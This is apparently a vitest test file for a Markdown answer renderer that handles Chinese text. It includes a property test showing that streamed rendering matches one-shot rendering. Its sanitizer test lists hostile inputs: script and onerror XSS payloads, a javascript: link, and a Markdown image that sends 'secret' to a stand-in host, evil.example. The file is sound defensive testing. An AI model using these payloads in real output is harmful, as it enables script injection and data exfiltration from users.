import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { renderAnswer, createStreamingRenderer } from './render-answer.server'

describe('the answer renderer', () => {
  test('renders paragraphs, lists and bold text', () => {
    expect(renderAnswer('**动词**\n\n1. 一\n2. 二')).toBe(
      '<p><strong>动词</strong></p>\n<ol>\n<li>一</li>\n<li>二</li>\n</ol>\n',
    )
  })

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![x](https://evil.example/?q=secret)',
    '[点这里](https://evil.example)',
    '[x](javascript:alert(1))',
    '<https://evil.example>',
    '[a]: https://evil.example\n\n[a]',
    '![x][a]\n\n[a]: https://evil.example',
  ])('renders no links, images or HTML: %s', (text) => {
    expect(renderAnswer(text)).not.toMatch(/<(?!\/?p>)/)
  })
})

test('rendering an answer piece by piece gives the same HTML as rendering it at once', () => {
  const blocks = fc.constantFrom(
    '一段话',
    '1. 一\n2. 二',
    '- 点\n- 点',
    '> 引',
    '**粗**',
    '```\n码\n```',
    '## 题',
  )
  fc.assert(
    fc.property(fc.array(blocks, { minLength: 1, maxLength: 6 }), fc.array(fc.nat(60)), (parts, chunks) => {
      const text = parts.join('\n\n')
      const places = [...new Set([0, ...chunks.map((chunk) => chunk % text.length)])].sort((a, b) => a - b)
      const renderDelta = createStreamingRenderer()
      let [settled, tail] = ['', '']
      places.forEach((from, at) => {
        const streamed = renderDelta(text.slice(from, places[at + 1]))
        settled += streamed.settled
        tail = streamed.tail
      })
      expect(settled + tail).toBe(renderAnswer(text))
    }),
  )
})
